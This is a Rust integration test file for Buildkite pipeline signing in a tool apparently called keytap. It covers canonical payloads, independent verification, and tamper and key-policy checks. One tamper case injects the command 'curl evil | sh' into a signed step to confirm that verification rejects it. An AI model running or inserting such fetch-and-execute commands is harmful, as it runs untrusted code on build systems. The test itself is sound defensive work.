//! Issue 16: Buildkite signed pipelines. Golden canonical payloads, signing through a real
//! agent on the mock token, an independent Python verifier and signer (cryptography +
//! rfc8785), tampering, and the `jws` purpose policy with a real sshd.

mod support;

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use keytap::buildkite::command::prepare;
use keytap::buildkite::pipeline::payload;
use support::{agent_with_config, text, Agent, Sshd};

const REPO: &str = "https://github.com/example/keytap-demo.git";
const FIXTURE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/buildkite/pipeline.yml");
const PY: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/buildkite_jws.py");

fn payloads(yaml: &str, alg: &str) -> Vec<String> {
    let prepared = prepare(yaml, REPO).unwrap();
    prepared.steps.iter().map(|(_, values)| String::from_utf8(payload(alg, values).unwrap()).unwrap()).collect()
}

#[test]
fn golden_payload_of_the_reference_example() {
    let yaml = "env:\n  DEPLOY_TARGET: staging\n  LOG_LEVEL: info\nsteps:\n  - label: deploy\n    command: ./deploy.sh\n";
    assert_eq!(
        payloads(yaml, "EdDSA"),
        [r#"{"alg":"EdDSA","values":{"command":"./deploy.sh","env":null,"env::DEPLOY_TARGET":"staging","env::LOG_LEVEL":"info","matrix":null,"plugins":null,"repository_url":"https://github.com/example/keytap-demo.git"}}"#]
    );
}

#[test]
fn golden_payloads_of_groups_plugins_matrices_and_env() {
    let yaml = std::fs::read_to_string(FIXTURE).unwrap();
    let got = payloads(&yaml, "ES256");
    let want = [
        concat!(
            r#"{"alg":"ES256","values":{"command":"make\nmake test","#,
            r#""env":{"FLAG":"true","MASK":"31","MODE":"8","RATIO":"1.5","RETRIES":"5"},"#,
            r#""env::DEBUG":"false","env::DEPLOY_TARGET":"staging","matrix":null,"#,
            r#""plugins":[{"github.com/buildkite-plugins/docker-buildkite-plugin#v5.9.0":{"image":"golang:1.22","propagate-environment":true}},"#,
            r#"{"github.com/myorg/cache-buildkite-plugin#v1.0.0":null},{"github.com/org/full-buildkite-plugin#v2":{}},"#,
            r#"{"github.com/buildkite-plugins/artifacts-buildkite-plugin#v1.9.0":null}],"#,
            r#""repository_url":"https://github.com/example/keytap-demo.git"}}"#
        ),
        concat!(
            r#"{"alg":"ES256","values":{"command":"go test ./...","env":null,"env::DEBUG":"false","env::DEPLOY_TARGET":"staging","#,
            r#""env::RETRIES":"3","matrix":["linux","darwin"],"plugins":null,"repository_url":"https://github.com/example/keytap-demo.git"}}"#
        ),
        concat!(
            r#"{"alg":"ES256","values":{"command":"./build.sh","env":null,"env::DEBUG":"false","env::DEPLOY_TARGET":"staging","env::RETRIES":"3","#,
            r#""matrix":{"adjustments":[{"skip":true,"with":{"arch":"1","os":"windows"}},{"soft_fail":false,"with":{"arch":"arm64","os":"linux"}}],"#,
            r#""setup":{"arch":["amd64","1"],"os":["linux","windows"]}},"plugins":null,"repository_url":"https://github.com/example/keytap-demo.git"}}"#
        ),
    ];
    assert_eq!(got, want);
}

#[test]
fn golden_payloads_of_yaml_1_2_scalars_and_edge_forms() {
    // yaml.v3 reads `yes` as a string and `010` as octal; quoted values stay strings; a
    // step's empty env and a setup-only matrix are null and a list.
    let yaml = "steps:\n  - command: x\n    env: {A: yes, B: '010', C: 1e6, D: ~, E: 0.00001}\n    matrix: {setup: [a, 2]}\n  - command: y\n    env: {}\n    plugins: []\n    matrix: {}\n";
    assert_eq!(
        payloads(yaml, "EdDSA"),
        [
            r#"{"alg":"EdDSA","values":{"command":"x","env":{"A":"yes","B":"010","C":"1e+06","D":"","E":"1e-05"},"matrix":["a","2"],"plugins":null,"repository_url":"https://github.com/example/keytap-demo.git"}}"#,
            r#"{"alg":"EdDSA","values":{"command":"y","env":null,"matrix":null,"plugins":null,"repository_url":"https://github.com/example/keytap-demo.git"}}"#,
        ]
    );
}

/// `keytap buildkite ARGS` through `agent` with `stdin` as standard input.
fn bk(agent: &Agent, args: &[&str], stdin: Option<&Path>) -> Output {
    let mut cmd = agent.keytap();
    cmd.arg("buildkite").args(args);
    if let Some(p) = stdin {
        cmd.stdin(Stdio::from(std::fs::File::open(p).unwrap()));
    }
    cmd.output().unwrap()
}

fn write(dir: &Path, name: &str, content: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, content).unwrap();
    p
}

/// Sign the fixture with `slot`'s key; returns (signed pipeline, JWKS) paths.
fn sign_fixture(agent: &Agent, slot: &str) -> (PathBuf, PathBuf) {
    let out = bk(agent, &["sign", "--repo", REPO, "--key", slot, FIXTURE], None);
    assert!(out.status.success(), "{}", text(&out));
    // The signatures go into the text as written: comments, quoting and other steps stay.
    let signed_text = String::from_utf8_lossy(&out.stdout);
    let fixture = std::fs::read_to_string(FIXTURE).unwrap();
    assert!(signed_text.starts_with(&fixture[..fixture.find("env:").unwrap()]), "{signed_text}");
    for kept in ["  - wait\n", "          image: \"golang:1.22\"\n", "      - myorg/cache#v1.0.0: ~\n", "  - block: release?\n"] {
        assert!(signed_text.contains(kept), "{kept:?} not kept:\n{signed_text}");
    }
    assert_eq!(signed_text.matches("signature:").count(), 3, "{signed_text}");
    let signed = write(agent.dir.path(), &format!("signed-{slot}.yml"), &out.stdout);
    let out = bk(agent, &["jwks", "--key", slot], None);
    assert!(out.status.success(), "{}", text(&out));
    let jwks = write(agent.dir.path(), &format!("jwks-{slot}.json"), &out.stdout);
    (signed, jwks)
}

fn python(args: &[&str]) -> Output {
    Command::new("python3").arg(PY).args(args).output().expect("python3 runs")
}

fn verify(agent: &Agent, jwks: &Path, pipeline: &Path, extra: &[&str]) -> Output {
    let mut args = vec!["verify", "--jwks", jwks.to_str().unwrap(), "--repo", REPO];
    args.extend_from_slice(extra);
    args.push(pipeline.to_str().unwrap());
    bk(agent, &args, None)
}

#[test]
fn keytap_signatures_verify_independently_and_with_keytap() {
    let agent = Agent::start();
    for (slot, alg) in [("9c", "EdDSA"), ("9a", "ES256"), ("9d", "ES384")] {
        let (signed, jwks) = sign_fixture(&agent, slot);
        let yaml = std::fs::read_to_string(&signed).unwrap();
        assert_eq!(yaml.matches(&format!("algorithm: {alg}\n")).count(), 3, "{yaml}");
        // The rest of the pipeline is still there.
        assert!(yaml.contains("  - wait\n") && yaml.contains("  - block: release?\n"), "{yaml}");
        let ok = verify(&agent, &jwks, &signed, &[]);
        assert!(ok.status.success(), "{}", text(&ok));
        assert_eq!(String::from_utf8_lossy(&ok.stdout), "OK   step 1 \"build\"\nOK   step 3.1 \"unit\"\nOK   step 3.2 \"multi\"\n");
        // The JWKS names the key the way agents need it.
        let set: serde_json::Value = serde_json::from_slice(&std::fs::read(&jwks).unwrap()).unwrap();
        assert_eq!(set["keys"][0]["alg"], alg);
        assert_eq!(set["keys"][0]["use"], "sig");
        let py = python(&["verify", jwks.to_str().unwrap(), REPO, signed.to_str().unwrap()]);
        assert!(py.status.success(), "independent verifier rejected {alg}: {}", text(&py));
        assert_eq!(String::from_utf8_lossy(&py.stdout), "ok 1\nok 2\nok 3\n");
    }
}

/// Pipelines written in the styles people use; each is signed into its own text (or, with an
/// alias, written again whole), and both verifiers must accept the result.
#[test]
fn signatures_written_into_styled_pipelines_verify_independently() {
    let agent = Agent::start();
    let out = bk(&agent, &["jwks", "--key", "9a"], None);
    assert!(out.status.success(), "{}", text(&out));
    let jwks = write(agent.dir.path(), "jwks.json", &out.stdout);
    let styled = concat!(
        "# deploy pipeline\n",
        "env: {DEPLOY_TARGET: staging}   # flow env\n",
        "steps:\n",
        "- label: \"build ✓\"\n",
        "  command: |\n",
        "    make\n",
        "    make test   # not a comment: part of the script\n",
        "\n",
        "  # the tests\n",
        "- {label: unit, command: go test ./..., matrix: [linux, darwin]}\n",
        "-\n",
        "  'command': echo own line\n",
        "  env:\n",
        "    RETRIES: 5\n",
        "- wait\n",
        "- group: later\n",
        "  steps:\n",
        "    -   command: ./late.sh\n",
        "        plugins: [docker#v5.9.0]\n",
    );
    let aliased = "defaults: &d\n  command: ./x.sh\nsteps:\n  - *d\n  - label: y\n    command: ./y.sh\n";
    for (name, pipeline, kept, steps) in [("styled", styled, "# the tests\n", 4), ("aliased", aliased, "", 2)] {
        let input = write(agent.dir.path(), &format!("{name}.yml"), pipeline.as_bytes());
        let out = bk(&agent, &["sign", "--repo", REPO, "--key", "9a", input.to_str().unwrap()], None);
        assert!(out.status.success(), "{name}: {}", text(&out));
        let signed_text = String::from_utf8_lossy(&out.stdout).to_string();
        assert_eq!(signed_text.matches("signature").count(), steps, "{name}:\n{signed_text}");
        assert!(signed_text.contains(kept), "{name}: {kept:?} lost:\n{signed_text}");
        if name == "styled" {
            // Everything written stays written as it was.
            for line in ["# deploy pipeline", "env: {DEPLOY_TARGET: staging}   # flow env", "    make test   # not a comment: part of the script", "- wait"] {
                assert!(signed_text.lines().any(|l| l == line), "{line:?} changed:\n{signed_text}");
            }
        }
        let signed = write(agent.dir.path(), &format!("{name}-signed.yml"), signed_text.as_bytes());
        let ok = verify(&agent, &jwks, &signed, &[]);
        assert!(ok.status.success(), "{name}: {}", text(&ok));
        let py = python(&["verify", jwks.to_str().unwrap(), REPO, signed.to_str().unwrap()]);
        assert!(py.status.success(), "{name}: the independent verifier rejected it: {}\n{signed_text}", text(&py));
        assert_eq!(String::from_utf8_lossy(&py.stdout).lines().count(), steps, "{name}: {}", text(&py));
    }
}

#[test]
fn keytap_verifies_signatures_made_by_the_independent_signer() {
    let agent = Agent::start();
    for kind in ["ed25519", "p256"] {
        let dir = tempfile::tempdir().unwrap();
        let py = python(&["sign", kind, REPO, FIXTURE, dir.path().to_str().unwrap()]);
        assert!(py.status.success(), "{}", text(&py));
        let out = verify(&agent, &dir.path().join("jwks.json"), &dir.path().join("signed.yml"), &[]);
        assert!(out.status.success(), "{kind}: {}", text(&out));
    }
}

#[test]
fn tampering_is_rejected_per_step() {
    let agent = Agent::start();
    let (signed, jwks) = sign_fixture(&agent, "9c");
    let good = std::fs::read_to_string(&signed).unwrap();
    let dir = agent.dir.path();
    let cases: Vec<(&str, String, &str)> = vec![
        ("command", good.replacen("      - make test\n", "      - make test && curl evil | sh\n", 1), "step 1 \"build\""),
        ("env", good.replacen("      RETRIES: 5\n", "      RETRIES: 6\n", 1), "step 1 \"build\""),
        ("plugin config", good.replacen("golang:1.22", "golang:evil", 1), "step 1 \"build\""),
        ("matrix", good.replacen("          - darwin\n", "          - windows\n", 1), "step 3.1 \"unit\""),
        ("matrix adjustment", good.replacen("              skip: true\n", "              skip: false\n", 1), "step 3.2 \"multi\""),
        ("relabelled algorithm", good.replacen("algorithm: EdDSA", "algorithm: ES256", 1), "step 1 \"build\""),
        ("field removed", good.replacen("        - env::DEBUG\n", "", 1), "step 1 \"build\""),
        ("no signature", good.replacen("signature:\n      algorithm", "old_signature:\n      algorithm", 1), "step 1 \"build\""),
    ];
    for (what, tampered, step) in cases {
        assert_ne!(tampered, good, "{what}: the edit did not apply");
        let p = write(dir, "tampered.yml", tampered.as_bytes());
        let out = verify(&agent, &jwks, &p, &[]);
        assert_eq!(out.status.code(), Some(1), "{what}: {}", text(&out));
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.lines().any(|l| l.starts_with(&format!("FAIL {step}:"))), "{what}: {stdout}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("failed verification"), "{what}");
    }
    // The pipeline env (env::NAME) as the job sees it; and the repository.
    let out = verify(&agent, &jwks, &signed, &["--env", "DEPLOY_TARGET=production"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout).matches("FAIL").count(), 3);
    let out = bk(&agent, &["verify", "--jwks", jwks.to_str().unwrap(), "--repo", "https://github.com/example/other.git", signed.to_str().unwrap()], None);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    // A job env that only adds variables is fine: they were never signed.
    let out = verify(&agent, &jwks, &signed, &["--env", "BUILDKITE_BRANCH=main"]);
    assert!(out.status.success(), "{}", text(&out));
    // A pipeline env variable that was signed and is gone.
    let gone = write(dir, "gone.yml", good.replacen("  DEBUG: false\n", "", 1).as_bytes());
    let out = verify(&agent, &jwks, &gone, &[]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("signed with DEBUG in the pipeline env, which is no longer set"), "{}", text(&out));
}

#[test]
fn a_different_key_under_the_same_kid_is_rejected() {
    let agent = Agent::start();
    let (signed, jwks) = sign_fixture(&agent, "9c");
    let set: serde_json::Value = serde_json::from_slice(&std::fs::read(&jwks).unwrap()).unwrap();
    let kid = set["keys"][0]["kid"].as_str().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let py = Command::new("python3").arg(PY).args(["sign", "ed25519", REPO, FIXTURE]).arg(dir.path()).env("KID", kid).output().unwrap();
    assert!(py.status.success(), "{}", text(&py));
    let impostor: serde_json::Value = serde_json::from_slice(&std::fs::read(dir.path().join("jwks.json")).unwrap()).unwrap();
    assert_eq!(impostor["keys"][0]["kid"], kid);
    let out = verify(&agent, &dir.path().join("jwks.json"), &signed, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(String::from_utf8_lossy(&out.stdout).matches("the signature does not verify").count(), 3, "{}", text(&out));
}

#[test]
fn sign_refuses_what_could_never_verify() {
    let agent = Agent::start();
    let dir = agent.dir.path();
    let cases = [
        ("steps:\n  - label: home\n    command: echo $HOME\n", "keytap: step 1 \"home\": its `command` holds a $VARIABLE interpolation"),
        ("env:\n  URL: ${BASE}/x\nsteps:\n  - command: a\n", "keytap: step 1 (line 4): its `env::URL` holds a $VARIABLE interpolation"),
        ("steps:\n  - label: s\n    command: a\n    secrets: [X]\n", "keytap: step 1 \"s\": it sets `secrets`"),
        ("steps:\n  - mystery: x\n", "keytap: line 2: a step of unknown type"),
        ("steps:\n  - command: a\n    plugins: [\"my plugin\"]\n", "plugin \"my plugin\": keytap cannot expand this name"),
    ];
    for (yaml, want) in cases {
        let p = write(dir, "p.yml", yaml.as_bytes());
        let out = bk(&agent, &["sign", "--repo", REPO, "-"], Some(&p));
        assert_eq!(out.status.code(), Some(1), "{yaml}");
        assert!(String::from_utf8_lossy(&out.stderr).contains(want), "{yaml}: {}", text(&out));
        assert!(out.stdout.is_empty());
    }
    // RSA keys are refused with a clear message; so is a missing agent.
    let out = bk(&agent, &["sign", "--repo", REPO, "--key", "9e", FIXTURE], None);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("is an RSA key; keytap signs Buildkite steps with Ed25519 (EdDSA), P-256 (ES256) or P-384 (ES384) keys only"), "{}", text(&out));
    let home = tempfile::tempdir().unwrap();
    let out = support::keytap_in(home.path()).args(["buildkite", "sign", "--repo", REPO, FIXTURE]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("SSH_AUTH_SOCK is not set"), "{}", text(&out));
}

#[test]
fn kid_defaults_to_the_thumbprint_in_sign_and_jwks_and_can_be_named() {
    let agent = Agent::start();
    let (signed, jwks) = sign_fixture(&agent, "9a");
    let set: serde_json::Value = serde_json::from_slice(&std::fs::read(&jwks).unwrap()).unwrap();
    let key = &set["keys"][0];
    // RFC 7638 over the required members, computed here from the JWK's own fields.
    let canonical = format!(r#"{{"crv":"P-256","kty":"EC","x":"{}","y":"{}"}}"#, key["x"].as_str().unwrap(), key["y"].as_str().unwrap());
    use base64::Engine;
    use sha2::Digest;
    let thumb = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(canonical.as_bytes()));
    assert_eq!(key["kid"], thumb);
    let header = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!(r#"{{"alg":"ES256","kid":"{thumb}"}}"#));
    assert!(std::fs::read_to_string(&signed).unwrap().contains(&format!("value: {header}..")));
    // Named kid; several keys for rotation.
    let out = bk(&agent, &["jwks", "--key", "9c", "--key-id", "ci-2026"], None);
    let set: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(set["keys"][0]["kid"], "ci-2026");
    assert_eq!(set["keys"][0]["kty"], "OKP");
    assert_eq!(set["keys"][0]["crv"], "Ed25519");
    let out = bk(&agent, &["jwks", "--key", "9c", "--key", "9a"], None);
    let set: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(set["keys"].as_array().unwrap().len(), 2);
    let out = bk(&agent, &["jwks", "--key", "9c", "--key", "9a", "--key-id", "x"], None);
    assert_eq!(out.status.code(), Some(1));
}


#[test]
fn a_jws_only_key_signs_pipelines_and_nothing_else() {
    // Lists unfiltered, so that ssh offers the jws-only key and keytap itself must refuse it.
    let (agent, audit) = agent_with_config("list_by_destination = false\n[[key]]\nmatch = \"slot:9c\"\nallow = [\"jws\"]\n\n[[key]]\nmatch = \"slot:9a\"\nallow = [\"raw\", \"ssh-auth\"]\n", &[]);
    let ok = bk(&agent, &["sign", "--repo", REPO, "--key", "9c", FIXTURE], None);
    assert!(ok.status.success(), "{}", text(&ok));
    // A key allowed raw data and logins but not `jws` does not sign a pipeline.
    let refused = bk(&agent, &["sign", "--repo", REPO, "--key", "9a", FIXTURE], None);
    assert_eq!(refused.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("the agent refused to sign with ecdsa-sha2-nistp256"), "{}", text(&refused));
    assert!(refused.stdout.is_empty());
    // The jws-only key does not log in.
    let sshd = Sshd::start(&[agent.key_line("9c")], &[]);
    let login = sshd.ssh(&agent).args(["-o", "IdentitiesOnly=yes", "-i"]).arg(agent.key_file("9c")).arg("true").output().unwrap();
    assert!(!login.status.success(), "jws-only key logged in: {}", text(&login));

    let records: Vec<serde_json::Value> = std::fs::read_to_string(&audit)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|r| r["event"] == "sign")
        .collect();
    let summary: Vec<(String, String, String)> = records
        .iter()
        .map(|r| (r["key"]["slot"].as_str().unwrap().into(), r["purpose"].as_str().unwrap().into(), r["decision"].as_str().unwrap().into()))
        .collect();
    let jws_allowed = |slot: &str| (slot.to_string(), "jws".to_string(), "allow".to_string());
    assert_eq!(summary[..3], [jws_allowed("9c"), jws_allowed("9c"), jws_allowed("9c")]);
    assert_eq!(summary[3], ("9a".into(), "jws".into(), "deny".into()));
    assert_eq!(records[3]["reason"], "purpose jws is not allowed for this key (allowed: raw, ssh-auth)");
    assert_eq!(summary[4], ("9c".into(), "ssh-auth".into(), "deny".into()));
    assert_eq!(records[0]["details"]["repository"], REPO);
    assert_eq!(records[0]["details"]["command"], "make\nmake test");
    assert_eq!(records[0]["details"]["alg"], "EdDSA");
    assert!(records[0]["details"]["kid"].as_str().is_some_and(|k| k.len() == 43));
}
